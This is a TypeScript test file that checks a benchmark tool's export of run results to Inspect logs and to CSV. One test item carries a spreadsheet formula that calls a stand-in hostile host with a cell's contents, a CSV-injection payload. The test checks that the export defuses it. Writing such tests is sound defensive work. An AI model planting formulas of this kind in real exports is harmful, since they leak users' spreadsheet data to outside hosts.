/** `zuschlag suite export` over a real run against endpoints on loopback: the same figures as the run's own results, and nothing that calculates. */
import { readFile, readdir, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { RunResults } from '../../../benchmark/run-folder.js';
import { exportRun } from '../../../cli/suite/export-run.js';
import { suiteOf } from '../../benchmark/sample-suite.js';
import { bench } from '../bench/bench-process.js';

const FORMULA = '=HYPERLINK("http://boese.example/"&A1;"hier")';
const usual = suiteOf(20, { repeats: 2 });
const SUITE = {
  ...usual,
  items: [
    ...usual.items,
    {
      id: 'formel',
      cluster: 'c-formel',
      messages: [{ role: 'user' as const, content: 'Welche Formel?' }],
      target: FORMULA,
      grader: { kind: 'exact' as const },
    },
  ],
};
const ITEMS = SUITE.items.length;

/** Fields of a table as RFC 4180 says. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r]*))(,|\r\n)/gu)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

interface Inspect {
  readonly version: number;
  readonly status: string;
  readonly eval: { readonly model: string; readonly task: string };
  readonly results: {
    readonly total_samples: number;
    readonly scores: readonly { readonly metrics: { accuracy: { value: number } } }[];
  };
  readonly samples: readonly {
    readonly id: string;
    readonly epoch: number;
    readonly scores: { readonly zuschlag: { readonly value: string } };
  }[];
}

describe('the export of a run', () => {
  it(
    'says what the run itself says, for inspect and as a table',
    { timeout: 180_000 },
    async () => {
      const setting = await bench(SUITE);
      const ran = await setting.run('lauf');
      expect(ran.stderr).toBe('');
      const [suite] = (JSON.parse(ran.stdout) as RunResults).suites;
      const folder = setting.pathOf('lauf');
      const out = setting.pathOf('aus');

      const inspect = await exportRun('inspect', folder, out);
      expect(inspect).toEqual({ exitCode: 0, stdout: 'probe.a.json\nprobe.b.json\n', stderr: '' });
      for (const { bidId, cells, correct } of suite?.results ?? []) {
        const log = JSON.parse(await readFile(join(out, `probe.${bidId}.json`), 'utf8')) as Inspect;
        expect(log).toMatchObject({ version: 2, status: 'success', eval: { task: 'probe' } });
        expect(log.eval.model).toBe(`simulator-${bidId}`);
        expect(log.results.total_samples).toBe(cells);
        expect(log.samples).toHaveLength(ITEMS * 2);
        const right = log.samples.filter(({ scores }) => scores.zuschlag.value === 'C');
        expect(right).toHaveLength(correct);
        expect(log.results.scores[0]?.metrics.accuracy.value).toBe(correct / cells);
        const names = new Set(log.samples.map(({ id, epoch }) => `${id}/${epoch}`));
        expect(names.size).toBe(ITEMS * 2);
      }

      expect((await exportRun('csv', folder, out)).exitCode).toBe(0);
      const [head = [], ...rows] = parseCsv(await readFile(join(out, 'probe.csv'), 'utf8'));
      const logged = (await readFile(join(folder, 'entries.jsonl'), 'utf8')).trimEnd().split('\n');
      expect(rows).toHaveLength(logged.length);
      expect(rows.every((row) => row.length === head.length)).toBe(true);
      const at = (name: string): number => head.indexOf(name);
      for (const { bidId, correct } of suite?.results ?? []) {
        const own = rows.filter((row) => row[at('bid')] === bidId);
        expect(own.filter((row) => row[at('correct')] === 'true')).toHaveLength(correct);
      }
      const formulas = rows.filter((row) => row[at('item')] === 'formel');
      const answers = formulas.map((row) => row[at('answer')] ?? '');
      // As text, with the apostrophe in front and the blanks that the model put there.
      expect(answers.some((one) => one.startsWith("'") && one.slice(1).trim() === FORMULA)).toBe(
        true,
      );
      for (const field of rows.flat()) expect(field).not.toMatch(/^\s*[=+@]|^\s*-\D/u);

      const again = await exportRun('csv', folder, out);
      expect(again).toMatchObject({ exitCode: 1, stdout: '' });
      expect(await readdir(out)).toEqual(['probe.a.json', 'probe.b.json', 'probe.csv']);

      await rm(join(folder, 'evidence.json'));
      const early = await exportRun('csv', folder, setting.pathOf('frueh'));
      expect(early).toMatchObject({ exitCode: 1, stdout: '' });
      expect(early.stderr).toContain('nicht am Ende');
    },
  );
});
